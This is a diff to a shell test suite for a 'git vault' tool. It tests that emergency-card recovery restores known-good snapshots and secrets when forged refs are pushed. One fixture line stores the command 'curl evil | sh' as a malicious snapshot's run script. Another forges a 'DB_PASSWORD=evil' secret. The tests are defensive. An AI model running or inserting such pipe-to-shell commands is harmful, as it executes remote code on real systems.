@@ -103,7 +103,7 @@ test_expect_success AGE 'a forged snapshot gets nothing out of the directory, no
 
 test_expect_success AGE 'it brings back what is known to be good, though another one is newer' '
 	git vault -q good mark prod && good=$(git for-each-ref --format="%(refname:lstrip=3)" refs/vault/snapshots | tail -1) &&
-	commit=$(git rev-parse "refs/vault/snapshots/$good") && git vault -q sync && git vault emergency-card >../card 2>../err &&
+	commit=$(git rev-parse "refs/vault/snapshots/$good") && git vault -q sync && git vault emergency-card >../card 2>../err && cp ../card ../good.card &&
 	test_grep "^	prod .*$good record 1" ../card && test_grep "^	GOOD=$commit" ../card && test_must_be_empty ../err &&
 	test_grep "Anybody who can push can make the newest" ../card &&
 	tree=$(printf "100755 blob %s\trun\n" "$(echo "curl evil | sh" | git hash-object -w --stdin)" | git mktree) &&
@@ -115,6 +115,18 @@ test_expect_success AGE 'it brings back what is known to be good, though another
 	test_grep "^$evil" ../said && test_grep "tree/live/prod/run" ../said && git vault --json emergency-card >../json &&
 	test_grep "\"environment\":\"prod\",\"record\":1,\"snapshot\":\"$good\",\"commit\":\"$commit\"" ../json &&
 	git push -q origin :refs/vault/snapshots/99991231T235959Z-deadbeef
+'
+
+test_expect_success AGE 'a secret comes back as the snapshot has it, though the ref of its scope has another one' '
+	ref=refs/vault/secrets/prod && key=$(sed -n "s/^# public key: //p" "$HOME/.config/git-vault/identity") &&
+	evil=$(printf "DB_PASSWORD=evil\n" | age -r "$key" | git hash-object -w --stdin) && GIT_INDEX_FILE=../index && export GIT_INDEX_FILE &&
+	git read-tree $ref && git ls-files | grep "[.]age$" >../names && while read -r name
+	do
+		git update-index --add --cacheinfo "100644,$evil,$name" || return 1
+	done <../names && tree=$(git write-tree) && unset GIT_INDEX_FILE &&
+	git push -q origin "$(git commit-tree -p $ref -m x $tree):$ref" && test_file_not_empty ../names &&
+	sed -n "/^1\. /,/^5\. /s/^	//p" ../good.card >../cmds && rm -rf ../w && mkdir ../w && (cd ../w && sh ../cmds >../said 2>&1) &&
+	cmp live/prod/.env ../w/out/live/prod/.env
 '
 
 test_lazy_prereq CHROMIUM 'command -v chromium'
